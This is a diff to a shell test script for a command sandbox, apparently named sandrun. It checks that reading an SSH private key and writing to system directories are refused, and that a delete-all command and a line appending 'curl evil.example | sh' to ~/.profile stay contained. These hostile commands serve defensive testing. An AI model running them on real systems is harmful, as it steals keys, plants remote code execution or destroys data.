@@ -58,8 +58,21 @@ expect 0 -- make
 expect 0 -- ./hello
 step 'refused: your keys, and writing outside the current directory'
 expect refused -- cat "$HOME/.ssh/id_rsa"
-expect refused -- sh -c "echo 'curl evil.example | sh' >>$HOME/.profile"
+expect refused -- sh -c 'echo evil >/usr/local/bin/evil'
+
+step 'harmless: your start file, since the command has a home of its own, which is gone afterwards'
+expect 0 -- sh -c "echo 'curl evil.example | sh' >>~/.profile"
 grep -q evil "$HOME/.profile" && exit 1
+
+if has mountns; then
+    step 'harmless: a command that deletes everything, since its changes wait in a workspace'
+    expect 0 --overlay . -- sh -c 'rm -f ./*; ls | wc -l'
+    printf '$ sandrun workspace diff --stat; sandrun workspace discard; ls\n'
+    "$sandrun" workspace diff --stat | sed 's/^/  /' || true
+    "$sandrun" workspace discard 2>&1 | sed 's/^/  /'
+    ls | sed 's/^/  /'
+    [ -e hello.c ]
+fi
 
 step 'a web server on this machine, outside of any sandbox'
 /usr/bin/python3 -u -m http.server --bind 127.0.0.1 --directory "$place/project" 0 >"$place/log" 2>&1 &
